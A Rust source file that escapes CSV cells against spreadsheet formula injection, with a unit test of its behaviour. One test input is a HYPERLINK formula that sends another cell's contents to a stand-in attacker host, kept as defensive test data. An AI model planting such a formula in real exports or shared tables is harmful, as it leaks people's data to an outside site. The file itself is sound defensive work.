//! Cells of the CSV files SegmentIQ writes (the web and REST downloads, the CLI's
//! `assignments.csv`), made safe to open in a spreadsheet.
//!
//! Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
//! formula (`=HYPERLINK(...)` can leak other cells to a web site), and some also do after a
//! leading tab or carriage return. Uploaded customer tables are other people's data, so every
//! such text cell is written with a leading `'`, which spreadsheets show as text and drop. A
//! cell that is a plain number (`-3.5`, `+7`) is left alone: it is a value, not a formula.

use std::borrow::Cow;

/// `cell` as written to a CSV file: prefixed with `'` when a spreadsheet would run it.
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A finite decimal number with an optional sign, as spreadsheets read it (no `inf`, no
/// `NaN`).
fn is_plain_number(cell: &str) -> bool {
    cell.parse::<f64>().is_ok_and(f64::is_finite)
        && cell
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '+' | '-' | '.' | 'e' | 'E'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_stay() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-inf", "'-inf"),
            ("-", "'-"),
            ("-3.5", "-3.5"),
            ("+7", "+7"),
            ("-1e3", "-1e3"),
            ("Addis Ababa", "Addis Ababa"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(raw), written, "{raw:?}");
        }
    }
}
